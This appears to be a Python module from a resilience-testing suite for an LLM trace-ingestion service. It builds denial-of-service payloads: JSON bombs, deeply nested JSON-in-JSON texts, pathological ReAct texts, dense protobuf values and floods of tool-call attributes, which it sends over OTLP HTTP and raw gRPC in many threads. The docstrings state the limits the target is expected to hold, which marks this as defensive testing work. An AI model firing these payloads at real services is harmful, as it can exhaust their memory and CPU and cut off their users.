"""Attributes that cost far more memory or time than they have bytes: JSON inside texts, ReAct texts, dense protobuf values.

Each attack is made of shapes. They are prepared before it begins, packed, so that the attacker costs little while it runs.
"""
import gzip
import itertools
import json
import os
import struct

from collecting.spans import attribute, part

from . import wire
from .target import GZIP, JSON, PROTOBUF

MAX_TEXT = 19_000_000
# Attributes that are read as JSON, by convention.
KEYS = ["gen_ai.input.messages", "ai.prompt.messages", "input.value", "gen_ai.output.messages", "output.value",
        "gen_ai.tool.definitions", "llm.tools.0.tool.json_schema", "traceloop.entity.input", "pydantic_ai.all_messages",
        "llm.output_messages.0.message.tool_calls.0.tool_call.function.arguments", "gen_ai.tool.call.arguments",
        "tool.parameters", "metadata", "llm.invocation_parameters"]


def repeat(unit, count):
    return unit * min(count, MAX_TEXT // len(unit))


def nest(text, depth):
    """JSON inside JSON inside JSON: each level is a text that holds the one below."""
    for _ in range(depth):
        text = json.dumps([text, text]) if len(text) < MAX_TEXT // 8 else json.dumps(text)
    return text[:MAX_TEXT]


def json_shapes(nodes):
    """Texts that a JSON reader makes many values of."""
    deep = min(nodes, MAX_TEXT // 2)
    return {
        "arrays": "[" + repeat("[0],", nodes) + "0]",
        "objects": "[" + repeat('{"":0},', nodes) + "0]",
        "empty_objects": "[" + repeat("{},", nodes * 4 // 3) + "0]",
        "numbers": "[" + repeat("0,", nodes * 2) + "0]",
        "deep": "[" * deep + "]" * deep,
        "deep_and_wide": "[" + repeat("[" * 60 + "]" * 60 + ",", nodes // 60) + "0]",
        "keys": "{" + ",".join(f'"{number:x}":0' for number in range(min(nodes, MAX_TEXT // 10))) + "}",
        "messages": "[" + repeat('{"role":"user","content":[{"type":"text","text":""}]},', nodes // 4) + '{"role":"user","content":""}]',
        "tool_calls": '[{"role":"assistant","tool_calls":[' + repeat('{"id":"","function":{"name":"t","arguments":"{}"}},', nodes // 5) + "{}]}]",
        "texts_with_json": json.dumps(["[" + repeat("[0],", nodes // 200) + "0]"] * 100),
        "json_in_json": nest("[" + repeat("[0],", nodes // 40) + "0]", 4),
        "python_literal": "[" + repeat("(0,),", nodes) + "None]",
        "open_ended": "[" + repeat('{"a":[', nodes),
    }


def react_shapes(nodes):
    """ReAct texts: labels, actions, code fences and brackets that a reader may look through again and again."""
    lines = nodes // 20
    return {
        "thoughts": repeat("Thought: x\n", lines),
        "actions": repeat("Thought: x\nAction: t\nAction Input: {}\n", lines),
        "open_inputs": repeat('Action: t\nAction Input: {"a": [', lines),
        "nested_inputs": "Thought: x\nAction: t\nAction Input: " + "{'a': " * (nodes // 5),
        "fences": repeat("```json\n{\n", lines),
        "markup": repeat("<tool_call>{", lines) + repeat("</tool_call>", lines),
        "observations": repeat("Observation: [0]\nThought:\n", lines),
        "code": repeat("Code:\n```py\nt(", lines),
        "one_line": "Action Input: " + repeat("Action: ", lines * 4),
    }


def dense_value(shape, nodes):
    """An attribute whose protobuf value is nested and has next to no bytes for each element."""
    count = min(nodes * 2, MAX_TEXT // 2)
    if shape == "array":
        value = part(5, b"\x0a\x00" * count)
    elif shape == "list_of_pairs":
        value = part(6, b"\x0a\x00" * count)
    elif shape == "arrays_in_array":
        value = part(5, part(1, part(5, b"\x0a\x00" * 3)) * (count // 5))
    else:
        value = part(5, part(1, part(6, part(1, part(1, b"a")))) * (count // 6))
    return part(9, part(1, b"input.value") + part(2, value))


def agent_trace(key, text):
    """A trace of an agent, a model call and a tool run that carries the text where the convention has it."""
    trace, root = wire.new_trace_id(), wire.new_span_id()
    kind = "TOOL" if key.startswith(("tool.", "gen_ai.tool.call")) else "LLM"
    return [(trace, root, b"", "agent", {"openinference.span.kind": "AGENT", "input.value": "hello"}),
            (trace, wire.new_span_id(), root, "call", {"openinference.span.kind": kind, "gen_ai.operation.name": "chat", "tool.name": "t", key: text})]


def encode_trace(spans, project):
    return wire.encode_export([wire.encode_span(trace, span, name, values, parent) for trace, span, parent, name, values in spans], project)


class FreshBody:
    """A gzip body with new ids each time. What is large is packed once; a small head with the ids is packed for each request
    and put before it, since gzip members can be joined."""

    def __init__(self, body, ids, split_at):
        self.head, self.ids = body[:split_at], ids
        self.tail = gzip.compress(body[split_at:], 6)

    def pack(self):
        head = self.head
        for old, is_text in self.ids:
            fresh = os.urandom(len(old) // 2).hex().encode() if is_text else os.urandom(len(old))
            head = head.replace(old, fresh)
        return gzip.compress(head, 1) + self.tail


def fresh_body(spans, text, project, as_json=False):
    """The spans as a body whose ids are new for each request."""
    body = wire.export_json(spans, project) if as_json else encode_trace(spans, project)
    ids = {span[0] for span in spans} | {span[1] for span in spans}
    beginning = (json.dumps(text)[1:-1] if as_json else text)[:64].encode()
    return FreshBody(body, [(one.hex().encode() if as_json else one, as_json) for one in ids], body.index(beginning))


def fresh_bodies(target, texts, keys=KEYS, as_json=False):
    """One for each text, under keys that take turns."""
    return [fresh_body(agent_trace(key, text), text, target.project, as_json) for text, key in zip(texts, itertools.cycle(keys))]


def send_in_turn(target, bodies, headers, threads=None):
    turns = itertools.count()

    def send(_):
        body = bodies[next(turns) % len(bodies)]
        is_fresh = isinstance(body, FreshBody)
        target.send("/v1/traces", body.pack() if is_fresh else body, {**headers, **GZIP}, 2 if is_fresh else 0)

    target.run_threads(threads or target.sizes.senders, send)


def attack_json(target):
    """JSON bombs in OTLP protobuf, a new trace each time: a trace is what is assembled."""
    bodies = fresh_bodies(target, json_shapes(target.sizes.nodes).values())
    yield
    send_in_turn(target, bodies, PROTOBUF)


def attack_json_keys(target):
    """The densest text under every key that is read as JSON."""
    text = json_shapes(target.sizes.nodes)["arrays"]
    bodies = fresh_bodies(target, [text] * len(KEYS))
    yield
    send_in_turn(target, bodies, PROTOBUF)


def attack_otlp_json(target):
    bodies = fresh_bodies(target, json_shapes(target.sizes.nodes // 2).values(), as_json=True)
    # The envelope itself: attributes, arrays of values, resources.
    many = target.sizes.nodes // 2
    bodies.append(gzip.compress(b'{"resourceSpans":[' + b"{}," * many + b"{}]}", 6))
    bodies.append(gzip.compress(b'{"resourceSpans":[{"scopeSpans":[{"spans":[{"traceId":"' + wire.new_trace_id().hex().encode() + b'","spanId":"' + wire.new_span_id().hex().encode()
                                + b'","attributes":[{"key":"a","value":{"arrayValue":{"values":[' + b"{}," * many + b"{}]}}}]}]}]}]}", 6))
    yield
    send_in_turn(target, bodies, JSON)


def attack_react(target):
    texts = list(react_shapes(target.sizes.nodes).values())
    bodies = fresh_bodies(target, texts, ["llm.output_messages.0.message.content", "output.value", "gen_ai.completion.0.content"])
    yield
    send_in_turn(target, bodies, PROTOBUF)


def attack_dense_values(target):
    bodies = []
    for shape in ("array", "list_of_pairs", "arrays_in_array", "pairs_in_array"):
        span = wire.encode_span(wire.new_trace_id(), wire.new_span_id(), shape, {"openinference.span.kind": "LLM"}, raw=dense_value(shape, target.sizes.nodes))
        bodies.append(gzip.compress(wire.encode_export([span], target.project), 6))
    yield
    send_in_turn(target, bodies, PROTOBUF)


def send_long_texts(target, kind, attributes, spans):
    """Traces of so many spans, one a request, that all carry the same long attributes."""
    tail = wire.SharedTail(b"".join(attribute(key, value) for key, value in attributes.items()))
    yield

    def send(_):
        trace = wire.new_trace_id()
        for _ in range(spans):
            head = wire.encode_span(trace, wire.new_span_id(), "step", {"openinference.span.kind": kind, "tool.name": "t"})
            target.send_until_taken("/v1/traces", tail.compress_export([head], target.project), {**PROTOBUF, **GZIP}, 1)

    target.run_threads(2, send)


def attack_nested_texts(target):
    """JSON text inside JSON text, 900 levels, as input and output of a tool run. Each level is parsed only if the depth of texts
    inside texts is not bounded: assembly should take no more than milliseconds."""
    text = "x"
    for _ in range(target.sizes.nested_texts):
        text = '"' + text.replace("\\", "\\u005c").replace('"', "\\u0022") + '"'
    return send_long_texts(target, "TOOL", {"output.value": text, "input.value": text}, 1)


def attack_message_parts(target):
    """One message with 19 MB of text parts, in three spans of a trace. The limit of JSON values in an attribute should hold."""
    unit = '{"type":"text","content":"a"},'
    text = '[{"role":"user","parts":[' + (unit * (target.sizes.text_bytes // len(unit)))[:-1] + "]}]"
    return send_long_texts(target, "LLM", {"gen_ai.operation.name": "chat", "gen_ai.input.messages": text}, 3)


def attack_tool_call_list(target):
    """One message with 32,000 tool calls in flattened attributes, just below the limit of attributes. Reading them should take
    time in proportion to their number."""
    calls = {}
    for number in range(target.sizes.tool_calls):
        calls[f"llm.input_messages.0.message.tool_calls.{number}.tool_call.id"] = f"c{number}"
        calls[f"llm.input_messages.0.message.tool_calls.{number}.tool_call.function.name"] = "t"
    return send_long_texts(target, "LLM", calls, 1)


def attack_grpc(target):
    """The same over gRPC: one connection for each sender, a stream for each call."""
    bodies = fresh_bodies(target, list(json_shapes(target.sizes.nodes).values())[:6])
    yield
    headers = [("content-type", "application/grpc"), ("te", "trailers"), ("grpc-encoding", "gzip"), *target.key_headers("ingest").items()]
    block = wire.header_block("POST", wire.EXPORT_PATH, headers)
    turns = itertools.count()

    def call(_):
        body = bodies[next(turns) % len(bodies)].pack()
        message = b"\x01" + struct.pack(">I", len(body)) + body
        connection, reader = target.connect(target.grpc_port), wire.FrameReader()
        with connection:
            connection.sendall(wire.PREFACE + wire.settings() + wire.headers_frame(1, block, end_stream=False) + wire.data_frames(1, message))
            while received := connection.recv(65_536):
                frames = list(reader.feed(received))
                connection.sendall(wire.ping_replies(frames))
                if any(kind in (wire.HEADERS, wire.RST_STREAM) and (flags & wire.END_STREAM or kind == wire.RST_STREAM) for kind, flags, _, _ in frames):
                    target.count("answered")
                    return
            target.count("broken off")

    target.run_threads(target.sizes.senders, call)
